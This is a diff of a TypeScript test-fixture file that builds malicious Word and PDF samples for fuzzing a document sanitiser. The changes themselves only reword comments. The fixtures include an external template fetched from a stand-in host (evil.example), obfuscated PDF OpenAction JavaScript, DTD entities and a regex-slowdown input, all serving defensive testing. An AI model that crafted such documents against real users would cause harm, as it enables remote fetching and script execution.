@@ -18,7 +18,7 @@ const WORD = {
   '_rels/.rels': relations(`<Relationship Id="rId1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/>`),
   'word/document.xml': paragraph('<w:r><w:t>Hello</w:t></w:r>'),
 };
-/** A Word document with more parts, or others in their places. */
+/** A Word document with added or replaced parts. */
 export const docx = (more: Record<string, string> = {}, mode = 0): Buffer => archive({ ...WORD, ...more }, mode);
 
 const RELS = 'word/_rels/document.xml.rels';
@@ -32,14 +32,14 @@ const link = (use: string) => ({
   [DOCUMENT]: paragraph(use).replace('<w:document', `<w:document xmlns:r="${OFFICE}"`),
 });
 
-/** What a document may have: links a person clicks, fields of its own, a picture. */
+/** Allowed content: links a person clicks, fields of the document itself, a picture. */
 export const HARMLESS_WORDS: Readonly<Record<string, Buffer>> = {
   'a link to click': docx(link('<w:hyperlink r:id="rId9"><w:r><w:t>here</w:t></w:r></w:hyperlink>')),
   'the number of its page': docx({ [DOCUMENT]: paragraph(field(' PA', 'GE ')) }),
   'a link as a field': docx({ [DOCUMENT]: paragraph(field(' HYPERLINK "https://example.in" ')) }),
 };
 
-/** Word documents that would run or fetch something, each in a way that a look at the text alone has missed. */
+/** Word documents that would run or fetch something, each in a way that a search of the text alone misses. */
 export const fuzzWordFiles = (): Record<string, Buffer> => ({
   'a template in single quotes': docx({
     [SETTINGS]: relations(relation('attachedTemplate', "Target='http://evil.example/t' TargetMode='External'")),
@@ -108,13 +108,13 @@ export const fuzzWordFiles = (): Record<string, Buffer> => ({
   'a document type in UTF-16': withUtf16({ 'word/other.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
 });
 
-/** Parts whose text is written in UTF-16, byte for byte (the archive of the tests takes latin letters). */
+/** Parts encoded in UTF-16, byte for byte (the archive of the tests takes latin letters). */
 function withUtf16(parts: Record<string, string>): Buffer {
   const wide = Object.entries(parts).map(([name, text]) => [name, Buffer.from(`\ufeff${text}`, 'utf16le')] as const);
   return archive({ ...WORD, ...Object.fromEntries(wide) });
 }
 
-/** A relationship that never closes, again and again: what a quadratic expression chokes on. */
+/** Many unclosed relationships, which make a quadratic regular expression slow. */
 export const unclosedRelations = (bytes: number): Buffer =>
   docx({ [RELS]: '<Relationship '.repeat(Math.ceil(bytes / 14)) });
 
@@ -174,7 +174,7 @@ const catalog = (more: string): Buffer => {
   return Buffer.from(plain.replace('/Type /Catalog', `/Type /Catalog ${more}`), 'latin1');
 };
 
-/** PDFs in which something runs, is sent, opened or fetched. They are refused, or what comes out has none of it. */
+/** PDFs with content that runs, sends, opens or fetches. They are rejected, or the output has none of it. */
 export const fuzzPdfs = (): Record<string, Buffer> => ({
   script: catalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
   'script with a hidden name': catalog('/OpenAction << /S /J#61vaScript /#4aS (app.alert(1)) >>'),
